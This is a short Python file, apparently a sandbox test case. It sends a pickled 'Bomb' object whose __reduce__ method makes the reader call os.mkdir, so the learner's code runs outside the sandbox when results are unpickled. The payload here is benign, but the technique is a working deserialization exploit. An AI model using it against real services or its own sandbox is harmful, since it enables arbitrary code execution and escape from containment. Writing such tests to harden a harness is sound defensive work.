"""Send an object whose reading makes a folder.

A pickle is a program; whoever reads results as pickles executes the learner's code outside the sandbox.

Held by: frames
Ends: crashed
"""

import os
import pickle

from wire import framed, write


class Bomb:
    """An object that is a call."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (self.path,)


def attack(facts):
    write(framed(pickle.dumps(Bomb(facts["folder"] + "/made"))))
